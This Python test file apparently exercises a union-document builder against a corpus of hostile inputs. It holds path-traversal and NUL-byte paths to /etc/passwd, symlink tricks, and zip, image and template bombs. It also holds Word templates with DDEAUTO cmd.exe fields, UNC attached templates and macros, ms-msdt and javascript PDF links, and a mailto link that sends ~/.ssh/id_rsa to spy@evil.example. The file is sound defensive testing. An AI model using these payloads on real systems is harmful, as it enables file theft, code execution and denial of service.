@case("tpl-base-href-file-etc")
def _(env: Env) -> Expect:
    env.template()
    _edit(env.tpl / "document.html.j2", "<head>", '<head>\n  <base href="file:///etc/">')
    _insert_after_body(env, '<img src="passwd" alt="">')
    return Expect(env.build(_use_template(env)), FAIL, (template_error(env, "passwd"),))


@case("tpl-manifest-html-outside-folder")
def _(env: Env) -> Expect:
    env.template()
    manifest = env.tpl / "manifest.yaml"
    _edit(manifest, "html: document.html.j2", "html: ../../private/secret.txt")
    return Expect(env.build(_use_template(env)), FAIL, (at(manifest, 4, "html"),))


@case("tpl-manifest-docx-is-etc-passwd")
def _(env: Env) -> Expect:
    env.template()
    manifest = env.tpl / "manifest.yaml"
    _edit(manifest, "docx: document.docx", "docx: /etc/passwd")
    return Expect(env.build(_use_template(env)), FAIL, (at(manifest, 5, "docx"),))


@case("tpl-docx-is-not-a-zip")
def _(env: Env) -> Expect:
    env.template()
    (env.tpl / "document.docx").write_bytes(b"PK\x03\x04 this is not really a zip")
    return Expect(
        env.build(_use_template(env), "-f", "docx"),
        FAIL,
        (at(env.tpl / "document.docx", None),),
    )


# == Paths  =======================================================================================
@case("path-template-dotdot-etc")
def _(env: Env) -> Expect:
    source = motion(env, MINIMAL.replace("resolution", "../" * 40 + "etc", 1))
    return Expect(env.build(source), FAIL, (at(source, 1, "template"),))


@case("path-template-absolute-etc")
def _(env: Env) -> Expect:
    source = motion(env, MINIMAL.replace("resolution", "/etc", 1))
    return Expect(env.build(source), FAIL, (at(source, 1, "template"),))


@case("path-template-absolute-etc-passwd")
def _(env: Env) -> Expect:
    source = motion(env, MINIMAL.replace("resolution", "/etc/passwd", 1))
    return Expect(env.build(source), FAIL, (at(source, 1, "template"),))


@case("path-campaign-etc-passwd")
def _(env: Env) -> Expect:
    source = motion(env, MINIMAL + "campaign: /etc/passwd\n")
    return Expect(env.build(source), FAIL, (at(source, 11, "campaign"),))


@case("path-campaign-symlink-to-secret")
def _(env: Env) -> Expect:
    campaign = env.link("campaign.yaml", env.secret)
    source = motion(env, MINIMAL + "campaign: campaign.yaml\n")
    return Expect(env.build(source), FAIL, (at(campaign, 1) + "|" + at(source, 11, "campaign"),))


@case("path-campaign-outside-with-logo-symlink-to-etc-passwd")
def _(env: Env) -> Expect:
    outside = env.write("../outside.yaml", "name: Outside\nlogo: logo.png\n")
    env.link("../logo.png", "/etc/passwd")
    source = motion(env, MINIMAL + "campaign: ../outside.yaml\n")
    return Expect(env.build(source), FAIL, (at(outside, 2, "logo"),))


@case("path-campaign-outside-with-logo-symlink-to-secret")
def _(env: Env) -> Expect:
    outside = env.write("../outside.yaml", "name: Outside\nlogo: logo.png\n")
    env.link("../logo.png", env.secret)
    source = motion(env, MINIMAL + "campaign: ../outside.yaml\n")
    return Expect(env.build(source), FAIL, (at(outside, 2, "logo"),))


@case("path-nul-in-campaign")
def _(env: Env) -> Expect:
    source = motion(env, MINIMAL + 'campaign: "campaign.yaml\\0/../../../etc/passwd"\n')
    return Expect(env.build(source), FAIL, (at(source, 11, "campaign"),))


@case("path-nul-in-template")
def _(env: Env) -> Expect:
    source = motion(env, MINIMAL.replace("resolution", '"./tpl\\0/../../../etc"', 1))
    return Expect(env.build(source), FAIL, (at(source, 1, "template"),))


@case("path-nul-in-signatories")
def _(env: Env) -> Expect:
    env.write("names.csv", "Name,Organisation\nPriya Raman,Labour\n")
    source = env.write("letter.yaml", yaml_doc(letter(signatories="names\0.csv")))
    return Expect(env.build(source), OK, texts=("Priya Raman",))


@case("path-signatories-dev-zero")
def _(env: Env) -> Expect:
    source = env.write("letter.yaml", yaml_doc(letter(signatories="/dev/zero")))
    return Expect(env.build(source), FAIL, (at(source, 4, "signatories"),))


@case("path-signatories-symlink-to-dev-zero")
def _(env: Env) -> Expect:
    env.link("zero.csv", "/dev/zero")
    source = env.write("letter.yaml", yaml_doc(letter(signatories="zero.csv")))
    return Expect(env.build(source), FAIL, (at(source, 4, "signatories"),))


@case("path-signatories-fifo")
def _(env: Env) -> Expect:
    os.mkfifo(env.doc / "pipe.csv")
    source = env.write("letter.yaml", yaml_doc(letter(signatories="pipe.csv")))
    return Expect(env.build(source), FAIL, (at(source, 4, "signatories"),))


@case("path-signatories-directory")
def _(env: Env) -> Expect:
    (env.doc / "people.csv").mkdir()
    source = env.write("letter.yaml", yaml_doc(letter(signatories="people.csv")))
    return Expect(env.build(source), FAIL, (at(source, 4, "signatories"),))


@case("path-sign-on-sheet-letter-dev-zero")
def _(env: Env) -> Expect:
    env.link("letter.yaml", "/dev/zero")
    source = env.write("sheet.yaml", "template: sign-on-sheet\nletter: letter.yaml\n")
    return Expect(env.build(source), FAIL, (at(source, 2, "letter"),))


@case("path-campaign-symlink-to-dev-zero")
def _(env: Env) -> Expect:
    env.link("campaign.yaml", "/dev/zero")
    source = motion(env, MINIMAL + "campaign: campaign.yaml\n")
    return Expect(env.build(source), FAIL, (at(source, 11, "campaign"),))


@case("path-signatories-command-on-dev-zero")
def _(env: Env) -> Expect:
    return Expect(signatories_cmd(env, "/dev/zero"), FAIL, (at("/dev/zero", None),))


# == Images  ======================================================================================
def _campaign_with_logo(env: Env, logo: str, data: bytes) -> tuple[Path, Path]:
    env.write_bytes(logo, data)
    campaign = env.write("campaign.yaml", f"name: Campaign\nlogo: {logo}\n")
    return campaign, motion(env, MINIMAL + "campaign: campaign.yaml\n")


@case("img-decompression-bomb-logo")
def _(env: Env) -> Expect:
    campaign, source = _campaign_with_logo(env, "logo.png", png_bomb())
    return Expect(env.build(source), FAIL, (at(campaign, 2, "logo"),))


@case("img-text-file-named-logo-png")
def _(env: Env) -> Expect:
    campaign, source = _campaign_with_logo(env, "logo.png", b"this is not an image\n")
    return Expect(env.build(source), FAIL, (at(campaign, 2, "logo"),))


@case("img-truncated-png")
def _(env: Env) -> Expect:
    data = small_png()
    campaign, source = _campaign_with_logo(env, "logo.png", data[: len(data) // 2])
    return Expect(env.build(source), FAIL, (at(campaign, 2, "logo"),))


@case("img-svg-logo-with-external-reference")
def _(env: Env) -> Expect:
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        f'<image href="{env.secret.as_uri()}" width="10" height="10"/>'
        '<image href="http://example.org/x.png" width="10" height="10"/></svg>'
    )
    campaign, source = _campaign_with_logo(env, "logo.svg", svg.encode())
    return Expect(env.build(source), FAIL, (at(campaign, 2, "logo"),))


@case("img-svg-named-logo-png")
def _(env: Env) -> Expect:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{env.secret.as_uri()}"/></svg>'
    campaign, source = _campaign_with_logo(env, "logo.png", svg.encode())
    return Expect(env.build(source), FAIL, (at(campaign, 2, "logo"),))


@case("img-logo-etc-passwd-written-in-document")
def _(env: Env) -> Expect:
    source = motion(env, MINIMAL + "campaign:\n  name: C\n  logo: /etc/passwd\n")
    return Expect(env.build(source), FAIL, (at(source, 13, "campaign.logo"),))


@case("img-logo-secret-outside-document-folder")
def _(env: Env) -> Expect:
    source = motion(env, MINIMAL + "campaign:\n  name: C\n  logo: ../private/secret.txt\n")
    return Expect(env.build(source), FAIL, (at(source, 13, "campaign.logo"),))


@case("img-logo-symlink-to-png-outside")
def _(env: Env) -> Expect:
    (env.root / "private" / "photo.png").write_bytes(small_png())
    env.link("logo.png", env.root / "private" / "photo.png")
    campaign = env.write("campaign.yaml", "name: Campaign\nlogo: logo.png\n")
    source = motion(env, MINIMAL + "campaign: campaign.yaml\n")
    return Expect(env.build(source), FAIL, (at(campaign, 2, "logo"),))


# == Received folders: what a template can plant, where files lead, hangs (issue 18)  =========
def _docx_with(path: Path, changes: dict[str, Callable[[str], str]], extra: dict[str, str]) -> None:
    """Rewrite a Word template's parts: `changes` edit existing parts, `extra` adds new ones."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, change in changes.items():
        parts[name] = change(parts[name].decode("utf-8")).encode("utf-8")
    for name, text in extra.items():
        parts[name] = text.encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _relationship(kind: str, target: str, external: bool = True) -> Callable[[str], str]:
    mode = ' TargetMode="External"' if external else ""
    element = f'<Relationship Id="rIdEvil" Type="{REL}/{kind}" Target="{target}"{mode}/>'
    return lambda xml: xml.replace("</Relationships>", element + "</Relationships>")


def _in_body(snippet: str) -> Callable[[str], str]:
    return lambda xml: xml.replace("<w:body>", "<w:body>" + snippet, 1)


def _field_paragraph(instruction: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space='
        f'"preserve"> {instruction} </w:instrText></w:r><w:r><w:fldChar w:fldCharType='
        '"separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
        "</w:r></w:p>"
    )


def _hostile_word_template(
    changes: dict[str, Callable[[str], str]], extra: dict[str, str] | None = None, says: str = ""
) -> Callable[[Env], Expect]:
    """A local template whose Word file carries something that fetches or runs: refused by
    `check` and by `build`, with the template's file, the part and what it is."""

    def setup(env: Env) -> Expect:
        env.template()
        _docx_with(env.tpl / "document.docx", changes, extra or {})
        source = _use_template(env)

        def check_refuses_too(run: Run) -> None:
            checked = run_cli("check", source)
            assert checked.exit_code == 1, checked.stdout + checked.stderr
            assert re.search(
                re.escape(str(env.tpl / "document.docx")) + ".*" + says, checked.stderr
            ), checked.stderr
            assert not (env.out / "motion.docx").exists()

        error = re.escape(str(env.tpl / "document.docx")) + ".*" + says
        return Expect(env.build(source), FAIL, (error,), check=check_refuses_too)

    return setup


def _attached_template(env: Env) -> Expect:
    env.template()
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        f'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}'
        '/attachedTemplate" Target="\\\\evil.example\\share\\normal.dotm" TargetMode='
        '"External"/></Relationships>'
    )
    _docx_with(
        env.tpl / "document.docx",
        {
            "word/settings.xml": lambda xml: xml.replace(
                "<w:zoom", '<w:attachedTemplate r:id="rId1"/><w:zoom', 1
            )
        },
        {"word/_rels/settings.xml.rels": rels},
    )
    source = _use_template(env)
    return Expect(env.build(source), FAIL, (re.escape(str(env.tpl)) + ".*attached",))


CASES["docx-attached-template-on-unc-path"] = _attached_template
CASES["docx-picture-linked-from-the-web"] = _hostile_word_template(
    {
        "word/document.xml": _in_body(
            '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/'
            f'2006/main" xmlns:r="{REL}" r:link="rIdEvil"/></w:drawing></w:r></w:p>'
        ),
        "word/_rels/document.xml.rels": _relationship("image", "http://127.0.0.1:9/beacon.png"),
    },
    says="(linked|image)",
)
CASES["docx-ddeauto-field"] = _hostile_word_template(
    {
        "word/document.xml": _in_body(
            _field_paragraph('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')
        )
    },
    says="DDEAUTO",
)
CASES["docx-includepicture-field"] = _hostile_word_template(
    {
        "word/document.xml": _in_body(
            _field_paragraph('INCLUDEPICTURE "http://127.0.0.1:9/x.png" \\d')
        )
    },
    says="INCLUDEPICTURE",
)
CASES["docx-includetext-field-split-across-runs"] = _hostile_word_template(
    {
        "word/document.xml": _in_body(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCL'
            '</w:instrText></w:r><w:r><w:instrText>UDETEXT "\\\\\\\\evil\\\\share\\\\x.docx"'
            '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    },
    says="INCLUDETEXT",
)
CASES["docx-unc-hyperlink"] = _hostile_word_template(
    {"word/_rels/document.xml.rels": _relationship("hyperlink", "file://evil.example/share/x")},
    says="file: link",
)
CASES["docx-altchunk"] = _hostile_word_template(
    {
        "word/document.xml": _in_body(f'<w:altChunk xmlns:r="{REL}" r:id="rIdEvil"/>'),
        "word/_rels/document.xml.rels": _relationship("aFChunk", "evil.html", external=False),
    },
    {"word/evil.html": "<html><body><img src='http://127.0.0.1:9/x.png'></body></html>"},
    says="(altChunk|aFChunk|foreign)",
)
CASES["docx-external-ole-link"] = _hostile_word_template(
    {"word/_rels/document.xml.rels": _relationship("oleObject", "http://127.0.0.1:9/x.xlsx")},
    says="oleObject",
)
CASES["docx-macros"] = _hostile_word_template(
    {}, {"word/vbaProject.bin": 'Attribute VB_Name = "ThisDocument"'}, says="macros"
)


def _zip_bomb(env: Env) -> Expect:
    env.template()
    path = env.tpl / "document.docx"
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        archive.writestr("word/media/bomb.png", b"\0" * 200_000_000)
    return Expect(env.build(_use_template(env)), FAIL, (re.escape(str(path)) + ".*bomb",))


CASES["docx-zip-bomb"] = _zip_bomb


def _pdf_link(href: str, says: str, style: str = "") -> Callable[[Env], Expect]:
    def setup(env: Env) -> Expect:
        env.template()
        _insert_after_body(env, f'<a href="{href}"{style}>Read more</a>')
        source = _use_template(env)

        def no_folder_named(run: Run) -> None:
            assert str(env.root) not in run.stderr, "the builder's folders were shown"

        return Expect(
            env.build(source, "-f", "pdf"), FAIL, (template_error(env, says),), no_folder_named
        )

    return setup


CASES["pdf-link-file-url"] = _pdf_link("file:///etc/passwd", "file:")
CASES["pdf-link-smb"] = _pdf_link("smb://evil.example/share", "smb:")
CASES["pdf-link-javascript"] = _pdf_link("javascript:app.alert(1)", "javascript:")
CASES["pdf-link-ms-msdt"] = _pdf_link("ms-msdt:/id PCWDiagnostic", "ms-msdt:")
CASES["pdf-link-relative-becomes-no-file-path"] = _pdf_link(
    "../../private/secret.txt", "a file: link ('secret.txt')"
)
CASES["pdf-invisible-link-over-the-page"] = _pdf_link(
    "https://evil.example/",
    "larger than the words",
    ' style="position: absolute; top: 0; left: 0; width: 180mm; height: 250mm; display: block"',
)


def _data_attachment(env: Env) -> Expect:
    env.template()
    _edit(
        env.tpl / "document.html.j2",
        "<head>",
        '<head>\n  <link rel="attachment" title="Invoice.pdf.exe"'
        ' href="data:application/octet-stream;base64,TVqQAAMAAAAEAAAA">',
    )
    return Expect(
        env.build(_use_template(env), "-f", "pdf"), FAIL, (template_error(env, "attach"),)
    )


CASES["pdf-data-url-attachment"] = _data_attachment


def _mailto(link: str, says: str) -> Callable[[Env], Expect]:
    def setup(env: Env) -> Expect:
        source = motion(env, yaml_doc(resolution(resolves=[f"[Email the secretary]({link})"])))
        return Expect(env.build(source), FAIL, (at(source, ANY_LINE, "resolves.0", says),))

    return setup


CASES["mailto-bcc-and-attach"] = _mailto(
    "mailto:a@b.example?bcc=spy%40evil.example&attach=/home/user/.ssh/id_rsa", "'bcc'"
)
CASES["mailto-two-recipients"] = _mailto("mailto:a@b.example,spy@evil.example", "exactly one")


@case("email-field-with-bcc")
def _(env: Env) -> Expect:
    data = resolution(
        send_to=[{"name": "Union office", "email": "a@b.example?bcc=spy@evil.example"}]
    )
    source = motion(env, yaml_doc(data))
    return Expect(env.build(source), FAIL, (at(source, ANY_LINE, "send_to.0.email", "one email"),))


@case("folder-document-linked-from-elsewhere")
def _(env: Env) -> Expect:
    outside = env.root / "private" / "their-motion.yaml"
    outside.write_text(MINIMAL.replace("Solidarity", "Stolen"))
    env.link("linked.yaml", outside)
    motion(env)

    def linked_one_skipped(run: Run) -> None:
        assert "Stolen" not in (env.out / "motion.pdf").read_bytes().decode("latin-1")
        assert not (env.out / "linked.pdf").exists()
        assert re.search(re.escape(str(env.doc / "linked.yaml")) + ": skipped: a link", run.stderr)

    return Expect(["build", env.doc, "-o", env.out], OK, check=linked_one_skipped)


@case("campaign-file-by-absolute-path-elsewhere")
def _(env: Env) -> Expect:
    elsewhere = env.root / "private" / "campaign.yaml"
    elsewhere.write_text("name: Outsider Campaign\nemail: outsider@example.org\n")
    source = motion(env, MINIMAL + f"campaign: {elsewhere}\n")
    return Expect(env.build(source), FAIL, (at(source, ANY_LINE, "campaign", "above it"),))


@case("build-record-crafted-to-keep-the-senders-pdf")
def _(env: Env) -> Expect:
    import json

    source = motion(env)
    env.out.mkdir()
    planted = b"%PDF-1.7 the sender's file with an /OpenAction /JavaScript"
    (env.out / "motion.pdf").write_bytes(planted)
    (env.out / "motion.docx").write_bytes(b"PK planted")
    # A record claiming these files are up to date (any fingerprint: it cannot match hashes).
    record = {"unionkit": 2, "entries": {str(env.out / "motion"): {"inputs": "x", "outputs": {}}}}
    (env.out / ".unionkit-build.json").write_text(json.dumps(record))

    def rebuilt(run: Run) -> None:
        assert (env.out / "motion.pdf").read_bytes() != planted
        assert "1 built" in run.stderr, run.stderr

    return Expect(env.build(source), OK, texts=("Solidarity",), check=rebuilt)


def _odd_record(kind: str) -> Callable[[Env], Expect]:
    def setup(env: Env) -> Expect:
        source = motion(env)
        env.out.mkdir()
        record = env.out / ".unionkit-build.json"
        if kind == "dev-zero":
            record.symlink_to("/dev/zero")
        elif kind == "fifo":
            os.mkfifo(record)
        elif kind == "folder":
            record.mkdir()

        def warned(run: Run) -> None:
            assert re.search(
                re.escape(str(record)) + ": warning: is not a build record", run.stderr
            )

        return Expect(env.build(source), OK, texts=("Solidarity",), check=warned)

    return setup


CASES["build-record-is-dev-zero"] = _odd_record("dev-zero")
CASES["build-record-is-a-fifo"] = _odd_record("fifo")
CASES["build-record-is-a-folder"] = _odd_record("folder")


@case("output-folder-is-a-link-elsewhere")
def _(env: Env) -> Expect:
    import io

    from pypdf import PdfWriter

    target = env.root / "private"
    victim = target / "motion.pdf"
    own = io.BytesIO()
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.write(own)
    victim.write_bytes(own.getvalue())
    env.out.symlink_to(target)
    source = motion(env)

    def untouched(run: Run) -> None:
        assert victim.read_bytes() == own.getvalue()
        assert "-o" in run.stderr and "link" in run.stderr

    return Expect(env.build(source), (2,), check=untouched)


@case("output-sub-folder-is-a-link-elsewhere")
def _(env: Env) -> Expect:
    (env.doc / "branch").mkdir()
    env.write("branch/motion.yaml", MINIMAL)
    env.out.mkdir()
    (env.out / "branch").symlink_to(env.root / "private")

    def untouched(run: Run) -> None:
        assert not (env.root / "private" / "motion.pdf").exists()

    error = re.escape(str(env.out / "branch" / "motion")) + ".*link to somewhere else"
    return Expect(["build", env.doc, "-o", env.out], FAIL, (error,), check=untouched)


@case("svg-use-amplification")
def _(env: Env) -> Expect:
    parts = [
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/'
        'xlink" width="100" height="100"><defs><rect id="a0" width="1" height="1"/>'
    ]
    for level in range(1, 10):
        uses = "".join(f'<use xlink:href="#a{level - 1}"/>' for _ in range(10))
        parts.append(f'<g id="a{level}">{uses}</g>')
    parts.append('</defs><use xlink:href="#a9"/></svg>')
    env.write("bomb.svg", "".join(parts))
    source = env.write("leaflet.yaml", "template: leaflet\nheadline: Justice\nimage: bomb.svg\n")
    return Expect(env.build(source), FAIL, (at(source, 3, "image", "<use>"),))


@case("svg-external-reference")
def _(env: Env) -> Expect:
    env.write(
        "picture.svg",
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<image xlink:href="http://127.0.0.1:9/beacon.png" width="10" height="10"/></svg>',
    )
    source = env.write("leaflet.yaml", "template: leaflet\nheadline: Justice\nimage: picture.svg\n")

    def no_blank_docx(run: Run) -> None:
        assert not (env.out / "leaflet.docx").exists()

    return Expect(env.build(source), FAIL, (at(source, 3, "image", "refers to"),), no_blank_docx)


@case("yaml-900k-unknown-keys")
def _(env: Env) -> Expect:
    lines = "".join(f"unknown_{n}: x\n" for n in range(900_000))
    source = env.write_bytes("motion.yaml", (MINIMAL.lstrip() + lines).encode()[:9_800_000])

    def short(run: Run) -> None:
        assert len(run.stderr) < 5_000, len(run.stderr)

    return Expect(env.build(source), FAIL, (at(source, 1, says="lines"),), check=short)


@case("data-column-list-position-in-the-millions")
def _(env: Env) -> Expect:
    source = motion(env)
    table = env.write("rows.csv", "branch.name,send_to.99999999.name\nBranch,Someone\n")
    return Expect(
        [*env.build(source), "--data", table], FAIL, (at(table, 1, "send_to.99999999.name"),)
    )


def _string_bomb(expression: str, says: str = "value that large") -> Callable[[Env], Expect]:
    def setup(env: Env) -> Expect:
        env.template()
        line = _insert_after_body(env, expression)
        return Expect(
            env.build(_use_template(env), "-f", "pdf"),
            FAIL,
            (at(env.tpl / "document.html.j2", line, says=says),),
        )

    return setup


CASES["tpl-percent-format-width"] = _string_bomb('{{ "%0999999999d" % 1 }}', "format width")
CASES["tpl-center-width"] = _string_bomb("{{ title | center(999999999) }}")
CASES["tpl-indent-width"] = _string_bomb('{{ (title ~ "\\n") * 10 | indent(99999999) }}')
CASES["tpl-str-format-width"] = _string_bomb('{{ "{:>999999999}".format(1) }}', "format width")
CASES["tpl-replace-chain"] = _string_bomb("{{ title" + ' | replace("o", title)' * 14 + " }}")


@case("tpl-link-to-a-huge-file-is-not-read")
def _(env: Env) -> Expect:
    huge = env.root / "private" / "huge.bin"
    with huge.open("wb") as stream:
        stream.truncate(6 * 1024**3)  # a sparse 6 GB file: no disk used
    env.template()
    (env.tpl / "photo.bin").symlink_to(huge)
    return Expect(env.build(_use_template(env)), OK, texts=("Solidarity",))


@case("tpl-link-to-proc-self-mem")
def _(env: Env) -> Expect:
    env.template()
    (env.tpl / "mem").symlink_to("/proc/self/mem")
    return Expect(env.build(_use_template(env)), OK, texts=("Solidarity",))


@case("templates-copy-onto-a-dangling-link")
def _(env: Env) -> Expect:
    target = env.link("mine", env.root / "nowhere")
    return Expect(
        ["templates", "copy", "resolution", target], FAIL, (at(target, None, says="link"),)
    )


@case("watch-a-link-to-the-root-folder")
def _(env: Env) -> Expect:
    root = env.link("everything", "/")
    return Expect(["watch", root, "-o", env.out], (2,))


@case("preview-of-a-page-kilometres-wide")
def _(env: Env) -> Expect:
    env.template()
    css = env.tpl / "style.css"
    css.write_text(css.read_text() + "\n@page { size: 5000mm 5000mm !important; }\n")
    source = _use_template(env)
    return Expect(
        ["preview", source, "-o", env.out / "page.png", "--dpi", "300"],
        FAIL,
        (at(source, None, says="too large to draw"),),
    )


@case("image-decompression-bomb-warning-size")
def _(env: Env) -> Expect:
    env.write_bytes("photo.png", png_bomb(10_000, 10_000))
    source = env.write("leaflet.yaml", "template: leaflet\nheadline: Justice\nimage: photo.png\n")
    return Expect(env.build(source), FAIL, (at(source, 3, "image"),))


# == the checks every case makes  =================================================================
@pytest.fixture
def guard(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """Refuse (and record) every network connection and child process while a case runs,
    in this process and in the worker processes it forks (they write to the same log)."""
    import weasyprint.text.fonts  # noqa: F401 - finding its C libraries runs ldconfig once

    log = tmp_path / "refused.log"

    def refuse(what: str) -> Callable[..., Any]:
        def refused(*args: Any, **kwargs: Any) -> Any:
            with log.open("a", encoding="utf-8") as stream:
                stream.write(f"{what} {args[1:3]!r}\n")
            raise OSError(f"{what} is not allowed in the hostile-input corpus")

        return refused

    monkeypatch.setattr(socket.socket, "connect", refuse("socket.connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", refuse("socket.connect_ex"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
    monkeypatch.setattr(socket, "create_connection", refuse("create_connection"))
    monkeypatch.setattr(subprocess.Popen, "_execute_child", refuse("subprocess"))
    monkeypatch.setattr(os, "system", refuse("os.system"))
    return log


def leaks(data: bytes | str) -> list[str]:
    """Which secret markers occur in `data` (UTF-8 or UTF-16 either way round)."""
    if isinstance(data, str):
        return [marker for marker in MARKERS if marker in data]
    encodings = ("utf-8", "utf-16-be", "utf-16-le")
    return [m for m in MARKERS if any(m.encode(e) in data for e in encodings)]


def pdf_streams(raw: bytes) -> Iterator[bytes]:
    """Every Flate stream of a PDF, decompressed (object streams and fonts included)."""
    for match in re.finditer(rb"stream\r?\n", raw):
        try:
            yield zlib.decompressobj().decompress(raw[match.end() :], 200_000_000)
        except zlib.error:
            continue


def pdf_links(reader: PdfReader) -> list[str]:
    links = []
    for page in reader.pages:
        for annotation in page.get("/Annots") or []:
            action = annotation.get_object().get("/A")
            if action is not None and "/URI" in action:
                links.append(str(action["/URI"]))
    return links


def check_pdf(path: Path) -> None:
    raw = path.read_bytes()
    reader = PdfReader(path)
    assert not leaks(raw), f"{path}: secret in the raw PDF"
    for stream in pdf_streams(raw):
        assert not leaks(stream), f"{path}: secret in a PDF stream"
    assert not leaks(pdf_text(path)), f"{path}: secret in the PDF text"
    assert not leaks(repr(dict(reader.metadata or {}))), f"{path}: secret in the PDF metadata"
    assert not reader.attachments, f"{path}: unexpected attachments {list(reader.attachments)}"
    for link in pdf_links(reader):
        assert link.startswith(LINK_SCHEMES), f"{path}: link to {link}"


def check_docx(path: Path) -> None:
    assert not leaks(docx_text(path)), f"{path}: secret in the DOCX text"
    with zipfile.ZipFile(path) as archive:
        for member in archive.namelist():
            data = archive.read(member)
            assert not leaks(data), f"{path}: secret in {member}"
            if member.endswith(".rels"):
                for rel in ElementTree.fromstring(data):
                    if rel.get("TargetMode") == "External":
                        target = rel.get("Target", "")
                        assert target.startswith(LINK_SCHEMES), f"{path}: link to {target}"


def check_files(env: Env) -> None:
    """No secret in any file left in tmp_path, no half-written file in the output."""
    secrets = {env.secret, env.root / "secret.txt"}
    for folder, _, names in os.walk(env.root):
        for name in names:
            path = Path(folder, name)
            if path in secrets or path.is_symlink() or not path.is_file():
                continue
            if path.stat().st_size > 100_000_000:
                continue  # a case's own huge input (sparse), not anything unionkit wrote
            assert not name.endswith(".part"), f"temporary file left behind: {path}"
            if path.suffix == ".pdf":
                check_pdf(path)
            elif path.suffix == ".docx" and path.is_relative_to(env.out):
                check_docx(path)
            else:
                assert not leaks(path.read_bytes()), f"secret in {path}"


def flat(text: str) -> str:
    """Text without any whitespace or line-end hyphenation, to compare PDF and DOCX text."""
    return "".join(squash(text).split())


def check_texts(run: Run, texts: tuple[str, ...]) -> None:
    written = [Path(line) for line in run.stdout.splitlines() if line.endswith((".pdf", ".docx"))]
    for path in written:
        printed = flat(pdf_text(path) if path.suffix == ".pdf" else docx_text(path))
        for text in texts:
            assert flat(text) in printed, f"{text!r} not printed in {path.name}"


@pytest.mark.parametrize("name", list(CASES))
def test_hostile_input(name: str, tmp_path: Path, guard: Path) -> None:
    env = make_env(tmp_path)
    expect = CASES[name](env)
    run = run_cli(*expect.args)
    refused = guard.read_text(encoding="utf-8") if guard.exists() else ""
    assert not refused, f"network or process use: {refused}"
    check_run(env, expect, run)
    if run.exit_code == 0 and expect.args[0] == "build":
        MADE_DOCX.extend(sorted(env.out.rglob("*.docx")))


def check_run(env: Env, expect: Expect, run: Run) -> None:
    """The promises every case keeps, then the case's own expectations."""
    output = f"exit {run.exit_code}\nstdout:\n{run.stdout}\nstderr:\n{run.stderr}"
    assert run.exception is None, f"{run.exception!r}\n{output}"
    assert "Traceback" not in run.stderr + run.stdout, output
    assert "please report" not in run.stderr, output
    assert run.exit_code in expect.exit, output
    assert not leaks(run.stdout) and not leaks(run.stderr), output
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", run.stdout + run.stderr), repr(output)
    if run.exit_code == 1:
        for pattern in expect.errors:
            assert re.search(pattern, run.stderr, re.MULTILINE), f"no line /{pattern}/\n{output}"
    for line in run.stdout.splitlines():
        if line.endswith((".pdf", ".docx", ".csv")):
            assert Path(line).resolve().is_relative_to(env.out.resolve()), f"written {line}"
    if run.exit_code == 0 and expect.args[0] == "build":
        formats = {a for a in expect.args if a in ("pdf", "docx")} or {"pdf", "docx"}
        written = {Path(line).suffix[1:] for line in run.stdout.splitlines()}
        assert written >= formats, output
        check_texts(run, expect.texts)
    check_files(env)
    if expect.check is not None:
        expect.check(run)


def test_the_corpus_is_big_enough() -> None:
    assert len(CASES) + len(BOUNDED) >= 45


# == inputs that could keep the machine busy: run in a child process with a deadline  =============
# A template or a document can ask for a great deal of work in a few bytes. These run as
# `python -m toolkit` in child processes (started together, so a hang costs its deadline once),
# each capped at 2 GB of memory and killed if still running after BOUNDED_SECONDS.
BOUNDED_SECONDS = 30
MEMORY_CAP = 2 * 1024**3
BOUNDED: dict[str, Callable[[Env], Expect]] = {}


def _template_bomb(expression: str) -> Callable[[Env], Expect]:
    def build(env: Env) -> Expect:
        env.template()
        line = _insert_after_body(env, expression)
        source = _use_template(env)
        return Expect(
            env.build(source, "-f", "pdf"), FAIL, (at(env.tpl / "document.html.j2", line),)
        )

    return build


BOUNDED["tpl-dos-string-repeat"] = _template_bomb('{{ "x" * 10**8 }}')
BOUNDED["tpl-dos-nested-loops"] = _template_bomb(
    "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
)


def _many_signatories(env: Env) -> Expect:
    rows = "".join(f"Person Number{n},Branch {n % 300},Member,\r\n" for n in range(20_000))
    env.write_bytes("form.csv", (HEADER + rows).encode())
    source = env.write("letter.yaml", yaml_doc(letter(signatories="form.csv")))
    return Expect(env.build(source), FAIL)


def _many_items(env: Env) -> Expect:
    # Written out rather than dumped: PyYAML takes a second to write 50,000 items.
    item = "Item {} of a motion nobody will ever read."
    text = yaml_doc(resolution(resolves=[item.format(0)]))
    assert text.endswith(f'- "{item.format(0)}"\n'), "resolves is not the last field"
    text += "".join(f'- "{item.format(n)}"\n' for n in range(1, 50_000))
